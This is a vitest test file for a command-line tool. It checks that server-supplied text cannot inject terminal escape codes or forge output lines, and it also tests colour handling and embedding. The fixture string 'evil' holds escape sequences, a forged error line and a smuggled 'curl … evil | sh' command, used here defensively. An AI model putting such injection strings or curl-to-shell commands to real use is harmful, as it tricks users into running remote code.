import { Readable } from "node:stream";
import { describe, expect, test } from "vitest";
import { exitCodes, type Io, run } from "../src/index.ts";
import { at, cli } from "./cli.ts";
import { hello, webhook } from "./examples.ts";
import { acknowledged, json, serve } from "./server.ts";

const ESC = "\u001b";

/** Control characters besides the line break, and marks that turn the direction of text. */
const STEERING = /(?!\n)[\p{Cc}\p{Bidi_Control}]/u;

describe("text from the server", () => {
  const evil = `id${ESC}]0;title\u0007${ESC}[31mred\u009b2J\rerror: forged\n\u202enext: curl\u2028evil | sh`;

  test("cannot steer the terminal or forge lines", async () => {
    const { url } = await serve(json(200, { session: { id: evil } }), json(403, { type: evil, message: evil }));
    const { stdout } = await cli(hello, { env: at(url) });
    expect(stdout).not.toMatch(STEERING);
    expect(stdout.split("\n")).toHaveLength(3);
    const { stderr } = await cli(hello, { env: at(url) });
    expect(stderr).not.toMatch(STEERING);
    expect(stderr.split("\n")).toHaveLength(3);
  });

  test("cannot do so from the beginning of a line either", async () => {
    const { url } = await serve(json(200, { webhooks: [{ ...webhook, id: evil }, webhook] }));
    const { stdout } = await cli(["webhook", "list"], { env: at(url) });
    expect(stdout).not.toMatch(STEERING);
    expect(stdout.split("\n")).toHaveLength(3);
  });

  test("is escaped in JSON, and unchanged for who parses it", async () => {
    const { url } = await serve(json(200, { session: { id: evil } }));
    const { stdout } = await cli([...hello, "--json"], { env: at(url) });
    expect(stdout).not.toMatch(STEERING);
    expect(JSON.parse(stdout)).toEqual({ session: { id: evil } });
  });
});

describe("colors", () => {
  /** Runs in this process, on what says that it is a terminal. */
  async function onTerminal(args: readonly string[], env: Record<string, string>): Promise<string> {
    let written = "";
    const terminal = { isTTY: true, columns: 80, write: (text: string) => (written += text) };
    const io: Io = {
      stdin: Readable.from([]),
      stdout: terminal,
      stderr: terminal,
      env,
      signal: new AbortController().signal,
    };
    await run(args, io);
    return written;
  }

  const cases = [
    ["an error", ["execute"]],
    ["help", ["--help"]],
  ] as const;

  test.each(cases)("%s has them on a terminal only", async (_, args) => {
    expect(await onTerminal(args, {})).toContain(ESC);
    const { stdout, stderr } = await cli(args);
    expect(stdout + stderr).not.toContain(ESC);
  });

  test.each(cases)("%s has none with NO_COLOR, --no-color or a dumb terminal", async (_, args) => {
    expect(await onTerminal(args, { NO_COLOR: "1" })).not.toContain(ESC);
    expect(await onTerminal([...args, "--no-color"], {})).not.toContain(ESC);
    expect(await onTerminal(args, { TERM: "dumb" })).not.toContain(ESC);
    expect(await onTerminal(args, { FORCE_COLOR: "0" })).not.toContain(ESC);
  });

  test("a result has them with FORCE_COLOR, and not with --no-color besides", async () => {
    const { url } = await serve(acknowledged);
    const env = { ...at(url), FORCE_COLOR: "1" };
    expect((await cli(hello, { env })).stdout).toContain(`${ESC}[1msession`);
    expect((await cli([...hello, "--no-color"], { env })).stdout).not.toContain(ESC);
    expect((await cli([...hello, "--json"], { env })).stdout).not.toContain(ESC);
  });
});

describe("in another program's process", () => {
  const silentIo = (url: string, signal = new AbortController().signal): Io => {
    const nowhere = { write: () => true };
    return { stdin: Readable.from([]), stdout: nowhere, stderr: nowhere, env: at(url), signal };
  };

  test("run resolves with the exit code and leaves the process alone", async () => {
    const { url } = await serve(acknowledged);
    expect(await run(hello, silentIo(url))).toBe(exitCodes.ok);
    expect(await run(["execute"], silentIo(url))).toBe(exitCodes.usage);
    expect(process.exitCode).toBeUndefined();
  });

  test("its signal interrupts", async () => {
    const { url, received } = await serve(acknowledged);
    expect(await run(hello, silentIo(url, AbortSignal.abort()))).toBe(exitCodes.interrupted);
    expect(received).toHaveLength(0);
  });

  test("a fault of its own is told as one", async () => {
    const { url } = await serve(acknowledged);
    let told = "";
    const io: Io = {
      ...silentIo(url),
      stdout: {
        write: () => {
          throw new Error("disk full");
        },
      },
      stderr: { write: (text: string) => (told += text) },
    };
    expect(await run(hello, io)).toBe(exitCodes.fault);
    expect(told).toMatch(/^error: agent-events itself failed: disk full\nnext: Please report this/);
  });
});

test("a reader that stops reading is no failure", async () => {
  const { url } = await serve(acknowledged);
  const outcome = await cli(hello, { env: at(url), onStart: (child) => child.stdout?.destroy() });
  expect(outcome).toMatchObject({ code: 0, stderr: "" });
  expect(await cli(["execute"], { env: at(url), onStart: (child) => child.stderr?.destroy() })).toMatchObject({
    code: 2,
  });
});
